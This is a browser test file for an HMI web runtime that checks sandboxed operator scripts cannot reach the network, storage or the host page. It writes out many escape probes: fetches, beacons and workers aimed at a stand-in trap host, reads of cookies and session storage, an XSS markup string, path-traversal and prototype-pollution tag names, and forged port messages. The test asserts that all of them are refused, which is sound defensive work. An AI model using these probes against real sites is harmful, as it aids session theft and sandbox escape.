/**
 * A script of a station tries every way to the network, to storage and to other pages, in the browser of somebody who
 * is signed in as administrator; and what it sends to the page is taken for what it is.
 */
// In a process of its own: it takes as long as a group.
import assert from 'node:assert/strict'
import { type TestContext, test } from 'node:test'
import type { Page } from 'playwright-core'
import { openTestGateway } from '../../../test/harness.ts'
import { bundlePage, hasBrowser, hmi, openPage, panels, served } from '../../../test/hmi.ts'
import type { Answer } from '../../../test/online.ts'
import { openTrap, type Trap } from '../../../test/trap.ts'
import { becomes } from '../../../test/until.ts'

const skip = !hasBrowser

/** A compiled station with a button for each script, and its page in a browser with the session of an administrator. */
async function withScripts(t: TestContext, scripts: Readonly<Record<string, string>>) {
  await bundlePage()
  const at = await openTestGateway(t)
  const { call, gateway } = at
  await call('projects.create', { name: 'Scripts', path: `${at.dir}/workspace`, cultures: ['en-US', 'de-DE'] })
  await call('devices.add', { orderNumber: panels.unified, name: 'HMI_1' })
  await call('hmi.create-tag-table', { ...hmi, name: 'Tags' })
  await call('hmi.add-tag', { ...hmi, tableName: 'Tags', name: 'Out', dataType: 'WString' })
  await call('hmi.create-screen', { ...hmi, name: 'Main' })
  const add = (object: object) => call<Answer>('hmi.add-object', { screenName: 'Main', ...object })
  const place = { width: 160, height: 50, top: 20 }
  await add({ type: 'TextField', name: 'Shown', ...place, top: 400, bindings: [{ property: 'text', tag: 'Out' }] })
  for (const [i, [name, source]] of Object.entries(scripts).entries()) {
    await call('hmi.create-script', { ...hmi, name, source })
    const events = [{ event: 'Click', actions: [{ function: name }] }]
    await add({
      type: 'Button',
      name,
      text: name,
      ...place,
      left: 20 + (i % 4) * 170,
      top: 20 + Math.floor(i / 4) * 60,
      events,
    })
  }
  const compiled = await call<Answer>('hmi.compile', { stationName: 'HMI_1' })
  assert.equal(compiled.success, true, JSON.stringify(compiled.messages))
  const server = await served(t, gateway)
  const opened = await openPage(t, server.url, '/hmi/HMI_1/')
  const { page } = opened
  const token = server.app.sessions.issueToken()
  await page.evaluate(`fetch('/api/session', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: '${JSON.stringify({ token })}',
  })`)
  await page.reload()
  await page.waitForSelector('[data-screen=Main]')
  /** The newest notice, without its time. */
  const told = async () => ((await page.locator('.notices li').allTextContents())[0] ?? '').replace(/^[\d:]+ /, '')
  const shown = async () => (await page.locator('[data-name=Shown] text').allTextContents()).join('\n')
  const run = (name: string) => page.getByRole('button', { name, exact: true }).click()
  return { ...at, ...opened, ...server, told, shown, run }
}

/**
 * Ways out of a worker, by what they are: each is an expression that succeeds when it gets through. TRAP is another
 * host, OWN the gateway, SELF a program as an address in the script's own origin.
 */
const workerWays: Readonly<Record<string, string>> = {
  'fetch of the gateway': "fetch('http://OWN/api/session', { credentials: 'include' })",
  'fetch of the prototype':
    "Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, 'http://OWN/api/session')",
  'fetch of another host': "fetch('http://TRAP/fetch', { mode: 'no-cors', keepalive: true })",
  'fetch by a path': "fetch('/api/session')",
  XMLHttpRequest: "loaded(new XMLHttpRequest(), (one) => (one.open('GET', 'http://TRAP/xhr'), one.send()))",
  'XMLHttpRequest in step':
    "(() => { const one = new XMLHttpRequest(); one.open('GET', 'http://OWN/api/health', false); one.send(); return one.status })()",
  WebSocket: "loaded(new WebSocket('ws://TRAP/socket'))",
  WebSocketStream: "new WebSocketStream('ws://TRAP/socket-stream').opened",
  EventSource: "loaded(new EventSource('http://TRAP/events'))",
  WebTransport: "new WebTransport('https://TRAP/transport').ready",
  importScripts: "importScripts('http://TRAP/import.js')",
  'importScripts of data': "importScripts('data:text/javascript,0')",
  'import()': "import('http://TRAP/module.js')",
  'import() of data': "import('data:text/javascript,export default 1')",
  'a worker of another host': "loaded(new Worker('http://TRAP/worker.js'))",
  'a worker of the gateway': "loaded(new Worker('http://OWN/studio/main.js'))",
  'a worker of data': "loaded(new Worker('data:text/javascript,postMessage(1)'))",
  'the network of a worker in the worker':
    "answerOf(\"fetch('http://TRAP/inner', { mode: 'no-cors' }).then(() => postMessage('reached'), (e) => postMessage('refused: ' + e))\")",
  'a module worker that imports':
    "answerOf(\"import 'http://TRAP/inner-module.js'; postMessage('reached')\", 'module')",
  SharedWorker: "new SharedWorker(address('onconnect = () => 0'))",
  'service worker': "navigator.serviceWorker.register('http://OWN/sw.js')",
  'a font': "new FontFace('x', 'url(http://TRAP/font)').load()",
  eval: "(0, eval)('1')",
  Function: "new Function('return 1')()",
  'Function of a prototype': "(async () => {}).constructor('return 1')()",
  'a timer with text':
    "new Promise((yes, no) => { globalThis.yes = yes; setTimeout('globalThis.yes(1)', 0); setTimeout(no, 200, 'not run') })",
  indexedDB:
    "new Promise((yes, no) => { const one = indexedDB.open('x'); one.onsuccess = yes; one.onerror = () => no(one.error) })",
  caches: "caches.open('x')",
  'the file system': 'navigator.storage.getDirectory()',
  'the old file system': 'webkitRequestFileSystemSync(0, 1).root',
  locks: "navigator.locks.request('x', () => 1)",
  cookies: 'cookieStore.getAll()',
  localStorage: 'localStorage.length',
  sessionStorage: "sessionStorage.getItem('gantry-key')",
  cookie: 'document.cookie',
  'the page': 'parent.document',
  'a window': "open('http://TRAP/window')",
  location:
    "(() => { location.href = 'http://TRAP/location'; if (!location.href.startsWith('blob:null/')) return 1; throw new Error('stayed') })()",
  WebRTC: 'new RTCPeerConnection()',
  beacon: "navigator.sendBeacon('http://TRAP/beacon')",
  notifications: "Notification.permission === 'granted' ? 1 : Promise.reject(Notification.permission)",
  push: 'registration.pushManager.subscribe()',
  USB: "navigator.usb.getDevices().then((all) => all.length || Promise.reject('no devices'))",
  serial: "navigator.serial.getPorts().then((all) => all.length || Promise.reject('no ports'))",
}

const tryAll = (own: string, trap: string) => `
const address = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))
const loaded = (one, begin = () => 0) =>
  new Promise((yes, no) => {
    one.onopen = one.onload = one.onmessage = () => yes('reached')
    one.onerror = (event) => (event.preventDefault?.(), no('error'))
    begin(one)
  })
const answerOf = (text, type = 'classic') =>
  new Promise((yes, no) => {
    const one = new Worker(address(text), { type })
    one.onmessage = ({ data }) => (data === 'reached' ? yes(data) : no(data))
    one.onerror = (event) => (event.preventDefault(), no('error'))
  })
const results = {}
const way = async (name, go) => {
  try {
    results[name] = 'reached: ' + String(await go())
  } catch (error) {
    results[name] = 'refused: ' + String(error)
  }
}
await Promise.all([
${Object.entries(workerWays)
  .map(([name, way]) => `  way(${JSON.stringify(name)}, () => ${way}),`)
  .join('\n')
  .replaceAll('OWN', own)
  .replaceAll('TRAP', trap)}
])
const channel = new BroadcastChannel('gantry')
channel.postMessage('from a script')
await Tags('Out').Write(JSON.stringify({ ...results, origin: self.origin }))
`

test('no way leads from a script to the network, to storage or to another page', { skip }, async (t) => {
  const trap = await openTrap(t)
  // The gateway's own port is known when it listens: the script is put in afterwards.
  const at = await withScripts(t, { Attack: 'return' })
  const { call, page, url, shown, run } = at
  await call('hmi.update-script', { ...hmi, scriptName: 'Attack', source: tryAll(new URL(url).host, trap.host) })
  assert.equal((await call<Answer>('hmi.compile', { stationName: 'HMI_1' })).success, true)
  await page.reload()
  await page.waitForSelector('[data-screen=Main]')
  await page.evaluate(`{
    globalThis.heard = []
    new BroadcastChannel('gantry').onmessage = ({ data }) => globalThis.heard.push(data)
    addEventListener('message', ({ data }) => globalThis.heard.push(data))
  }`)
  const keysBefore = await call<Answer>('settings.get', {})
  // What was sent at all, and answered: a browser names requests too that its policy refuses.
  const answered: string[] = []
  page.on('response', (response) => {
    if (!response.url().startsWith('blob:')) answered.push(response.url())
  })
  await run('Attack')
  await becomes(async () => /"origin"/.test(await shown()), true)
  const { origin, ...results } = JSON.parse(await shown()) as Record<string, string>
  assert.equal(origin, 'null')
  assert.deepEqual(Object.keys(results).sort(), Object.keys(workerWays).sort())
  const reached = Object.entries(results).filter(([, result]) => !result.startsWith('refused: '))
  assert.deepEqual(reached, [])
  assert.deepEqual([trap.caught, answered], [[], []])
  await sealed(page, trap)
  // What the frame's window said to the page was heard, and obeyed by nobody.
  assert.deepEqual(await page.evaluate('globalThis.heard'), [{ do: 'write', name: 'Out', value: 'forged' }])
  assert.notEqual(await shown(), 'forged')
  assert.deepEqual(await call<Answer>('settings.get', {}), keysBefore)
  assert.equal(page.context().pages().length, 1)
  // The page goes on.
  assert.equal(await page.locator('[data-screen=Main]').count(), 1)
})

/**
 * Ways out of the window of the frame, where no script runs: should one get there, it is shut too. Browsers have no
 * policy for WebRTC and for connections without a request; workers have neither.
 */
const windowWays = (host: string) => `(async () => {
  const reached = []
  const way = async (name, go) => {
    try { await go(); reached.push(name) } catch {}
  }
  await way('parent', () => parent.document)
  await way('top', () => { top.location.href = 'http://${host}/top' })
  await way('cookie', () => document.cookie)
  await way('localStorage', () => localStorage.length)
  await way('sessionStorage', () => sessionStorage.length)
  await way('indexedDB', () => new Promise((yes, no) => { const one = indexedDB.open('x'); one.onsuccess = yes; one.onerror = no }))
  await way('fetch', () => fetch('http://${host}/frame-fetch', { mode: 'no-cors' }))
  await way('SharedWorker', () => new SharedWorker('data:,0'))
  await way('service worker', () => navigator.serviceWorker.register('/sw.js'))
  await way('window', () => { if (open('http://${host}/open') === null) throw 0 })
  navigator.sendBeacon('http://${host}/beacon')
  const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields))
  for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest'])
    add('link', { rel, as: 'script', href: 'http://${host}/' + rel })
  add('img', { src: 'http://${host}/img' })
  add('script', { src: 'http://${host}/script' })
  add('script', { text: 'globalThis.wasRun = true' })
  add('style', { textContent: '@import "http://${host}/style"; body { background: url(http://${host}/background) }' })
  add('iframe', { src: 'http://${host}/frame' })
  add('object', { data: 'http://${host}/object' })
  add('video', { src: 'http://${host}/video' })
  await way('a script in the page', () => { if (!globalThis.wasRun) throw 0 })
  parent.postMessage({ do: 'write', name: 'Out', value: 'forged' }, '*')
  return reached
})()`

async function sealed(page: Page, { host, caught }: Trap): Promise<void> {
  const frame = page.frames().find((one) => one !== page.mainFrame())
  assert.ok(frame, 'the frame is there')
  assert.deepEqual(await frame.evaluate<string[]>(windowWays(host)), [])
  // Going elsewhere ends what is evaluated: the page's policy lets no address into the frame.
  for (const go of [
    `const form = document.createElement('form'); form.action = 'http://${host}/form'; document.body.append(form); form.submit()`,
    `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0; url=http://${host}/refresh'; document.head.append(meta)`,
    `location.href = 'http://${host}/location'`,
  ])
    await frame.evaluate(`{ ${go} }`).catch(() => undefined)
  await becomes(() => frame.url(), 'chrome-error://chromewebdata/')
  assert.deepEqual(
    caught.filter((one) => one.startsWith('/')),
    [],
  )
}

/** Takes hold of the port that the page listens to, as any script can. */
const forge = (body: string) => `
let port
const plain = MessagePort.prototype.postMessage
MessagePort.prototype.postMessage = function (...given) { port = this; return plain.apply(this, given) }
await Tags('Out').Write('begun')
const send = (one) => plain.call(port, typeof one === 'string' ? one : JSON.stringify(one))
${body}
await new Promise(() => {})`

test('what a script sends is checked; texts are shown as texts, and an endless one is ended', { skip }, async (t) => {
  const markup = '<img src=x onerror="document.title=1"><svg onload="document.title=1">'
  const { page, told, shown, run, faults } = await withScripts(t, {
    Markup: `await Tags('out').Write(${JSON.stringify(markup)})`,
    Order: "for (let i = 0; i < 50; i++) Tags('Out').Write('n' + i)",
    Refused: `
      const said = []
      for (const go of [
        () => Tags('..' + '/../settings').Write(1), () => Tags('__' + 'proto__').Read(), () => Tags('Out').Write({ type: 'img' }),
        () => Tags('Out').Write([1]), () => Tags('Out').Write(), () => Tags('Out').Write(NaN),
        () => HMIRuntime.UI.ChangeScreen('None'), () => HMIRuntime.Language('xx-not-a-language'),
      ]) await go().then(() => said.push('done'), ({ message }) => said.push(message))
      await Tags('Out').Write(said.join(' | '))`,
    Throws: "throw new Error('on purpose')",
    Object: forge('plain.call(port, { do: "write", id: 1, name: "Out", value: "forged" })'),
    Unknown: forge("send({ do: 'fetch', id: 1, name: '/api/session' })"),
    Nothing: forge("send('null')"),
    Text: forge("send('no JSON')"),
    Long: forge("send({ do: 'write', id: 1, name: 'Out', value: 'x'.repeat(100_000) })"),
    Flood: forge("for (;;) send({ do: 'read', id: 1, name: 'Out' })"),
    Endless: 'for (;;) {}',
    German: "await HMIRuntime.Language('DE-de')",
  })
  await run('Markup')
  await becomes(shown, markup)
  assert.equal(await page.locator('[data-name=Shown] img').count(), 0)
  await run('Order')
  await becomes(shown, 'n49')
  await run('Refused')
  const scalar = '"Out" takes a text, a number, true or false'
  await becomes(
    shown,
    [
      ...['"../../settings" is no variable of the station', '"__proto__" is no variable of the station'],
      ...[scalar, scalar, scalar, scalar, '"None" is no screen of the station'],
      '"xx-not-a-language" is no language of the station: en-US, de-DE',
    ].join(' | '),
  )
  const sent = 'it was ended: it sent what no script sends.'
  for (const [name, fault] of Object.entries({
    Throws: 'on purpose',
    ...{ Object: sent, Unknown: sent, Nothing: sent, Text: sent, Long: sent },
    Flood: 'it was ended after 10000 messages.',
    Endless: 'it was ended after 5 seconds.',
  })) {
    await run(name)
    await becomes(told, `Script "${name}": ${fault}`)
    assert.notEqual(await shown(), 'forged')
  }
  await becomes(() => page.workers().length, 0)
  await run('German')
  await becomes(() => page.locator('html').getAttribute('lang'), 'de-DE')
  assert.deepEqual([await page.title(), faults], ['HMI_1', []])
})
